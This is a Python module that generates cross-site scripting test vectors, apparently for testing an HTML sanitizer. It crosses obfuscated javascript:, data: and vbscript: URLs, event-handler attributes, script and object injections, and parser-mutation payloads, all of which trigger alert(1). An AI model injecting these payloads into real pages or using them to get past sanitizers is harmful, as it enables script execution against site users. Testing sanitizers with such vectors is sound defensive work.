"""Attacks on a page's clean HTML, made from what each part of one can be."""

from itertools import product

CALLS = ("alert(1)", "alert`1`", "confirm(1)", "self['al'+'ert'](1)")
SCHEMES = (
    *("javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "java&#13;script:{}", "\x01javascript:{}"),
    *(
        "javascript&colon;{}",
        "&#106;avascript:{}",
        "&#x6a;avascript:{}",
        "javascript:/*--></title></style>*/{}",
        "vbscript:{}",
        "feed:javascript:{}",
    ),
    *(
        "data:text/html,<script>{}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:image/svg+xml,<svg onload={}>",
    ),
    *(
        "blob:https://a.example/{}",
        "filesystem:{}",
        "view-source:javascript:{}",
        "javascript://a.example/%0a{}",
        "javascript:{}//https://b.example",
    ),
)
HOLDERS = ('<a href="{}">word</a>', "<p>a <img src='{}' alt=b> c", '<p>a<iframe src="{}"></iframe>b', "<p>a<video src='{}'></video>b")
ADDRESSES = tuple(holder.format(scheme.format("alert(1)")) for holder, scheme in product(HOLDERS, SCHEMES))
EVENTS = (
    "onclick",
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpointerrawupdate",
    "ONERROR",
)
TAGS = (
    *("<p {}=alert(1)>word</p>", "<img src=x {}=alert(1) alt=word>word", "<a href=/x {}=alert(1)>word</a>", "<svg/{}=alert(1)>word</svg>"),
    *("<td {}=alert(1)>word", "<details open {}=alert(1)>word</details>", "<input autofocus {}=alert(1)>word", "<b {}='alert(1)'>word</b>"),
)
HANDLERS = tuple(tag.format(event) for tag, event in product(TAGS, EVENTS))
SCRIPTS = tuple(
    form.format(call)
    for form, call in product(
        (
            *("<script>{}</script>word", "<SCRIPT SRC=//b.example>{}</SCRIPT>word", "<svg><script>{}</script>word</svg>"),
            *("<math><mi xlink:href='javascript:{}'>word</mi></math>", "<style>@import 'javascript:{}';</style>word"),
            *(
                '<p style="background:url(javascript:{})">word</p>',
                "<object data='javascript:{}'></object>word",
                "<embed src='javascript:{}'>word",
            ),
            *("<form action='javascript:{}'><button>word</button></form>", "<base href='javascript:{}//'><a href=x>word</a>"),
        ),
        CALLS,
    )
)
# What parsers and writers read differently.
MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>word</noscript>word",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>word",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>word",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>word",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; word",
    "<p>&amp;lt;img src=x onerror=alert(1)&amp;gt; word",
    "<pre>&lt;img src=x onerror=alert(1)&gt; word</pre>",
    "<pre><code class='language-x\" onclick=alert(1) \"'>word</code></pre>",
    "<code>&lt;/code&gt;&lt;script&gt;alert(1)&lt;/script&gt;</code>word",
    "<img alt='\"><script>alert(1)</script>' src=/x>word",
    "<p>a <img alt='` onerror=alert(1)' src=/x> word",
    "<a href='/x\"onmouseover=alert(1) x=\"'>word</a>",
    '<a href="https://a.example/\'><script>alert(1)</script>">word</a>',
    "<textarea></textarea><script>alert(1)</script>word",
    "<title></title><img src=x onerror=alert(1)>word",
    "<template><script>alert(1)</script></template>word",
    "<xmp><script>alert(1)</script></xmp>word",
    "<plaintext><script>alert(1)</script>word",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->word",
    "<![CDATA[<script>alert(1)</script>]]>word",
    "<table><caption><img src=x onerror=alert(1)>word</caption><tr><th>a<th>b<tr><td>c<td>d</table>",
    "<table><tr><td colspan='2\" onclick=\"alert(1)'>word<td>b<tr><th>c<td>d</table>",
    "<ol start='1\" onclick=\"alert(1)'><li value='2\"><script>'>word</ol>",
    "<p id='x' name=body>word<sup><a href='#f'>1</a></sup><ol><li id=f>note</ol>",
    "<p>a<sup><a href='#\"><script>alert(1)</script>'>1</a></sup> word",
    "<p>word \x00<script>alert(1)</script>",
    "<math><annotation encoding='application/x-tex'>\\href{javascript:alert(1)}{x}</annotation><mi>word</mi></math>",
    "<p>a <math alttext='&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;'><mi>x</mi></math> word",
    "<div class='language-<script>'><pre>word</pre></div>",
    "<p><a href=//b.example\\@javascript:alert(1)>word</a>",
)
VECTORS = (*ADDRESSES, *HANDLERS, *SCRIPTS, *MUTATIONS)
